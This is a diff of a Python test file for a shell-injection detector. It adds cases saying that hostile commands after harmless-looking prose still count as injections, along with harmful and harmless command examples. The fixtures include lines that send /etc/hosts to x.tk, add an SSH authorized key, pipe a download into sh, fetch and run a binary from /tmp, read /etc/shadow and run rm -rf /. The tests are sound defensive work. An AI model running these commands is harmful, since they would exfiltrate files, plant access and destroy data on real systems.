@@ -242,6 +242,7 @@ def test_everyday_commands_after_talk_are_a_note(text: str) -> None:
     "we ran the job; uname -a",
     "it then did this; curl -d @/etc/hosts http://x.tk", "and then we added; echo key >> ~/.ssh/authorized_keys",
     "hello; ls", "127.0.0.1; ls -la", "we ran the build; ls && curl x.tk/a | sh",
+    "we tried this first; wget http://x.tk/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
 ])
 def test_harmful_commands_after_talk_stay_injections(text: str) -> None:
     """Recon, connections, code fetched and run, secrets read, damage: an injection whatever precedes."""
@@ -251,6 +252,7 @@ def test_harmful_commands_after_talk_stay_injections(text: str) -> None:
 @pytest.mark.parametrize(("name", "rest"), [
     ("whoami", ""), ("sudo", " nohup bash -i"), ("curl", " x.tk | sh"), ("cat", " /etc/shadow"),
     ("python3", " -c 'x'"), ("ping", " -n 5 x"), ("rm", " -rf /"), ("echo", " x > ~/.bashrc"),
+    ("wget", " http://x.tk/a -o /tmp/a"), ("curl", " -s x.tk/a > a.sh"), ("chmod", " +x /tmp/a"),
 ])
 def test_harmful(name: str, rest: str) -> None:
     assert harmful(name, rest)
@@ -259,6 +261,7 @@ def test_harmful(name: str, rest: str) -> None:
 @pytest.mark.parametrize(("name", "rest"), [
     ("apt", " upgrade"), ("sudo", " apt upgrade"), ("make", " install"), ("ls", " -la"), ("python", " app.py"),
     ("ping", " example.org"), ("rm", " -rf ./build"), ("cat", " file.txt"), ("sudo", ""),
+    ("curl", " -I https://example.com"), ("chmod", " 755 deploy.sh"),
 ])
 def test_not_harmful(name: str, rest: str) -> None:
     assert not harmful(name, rest)
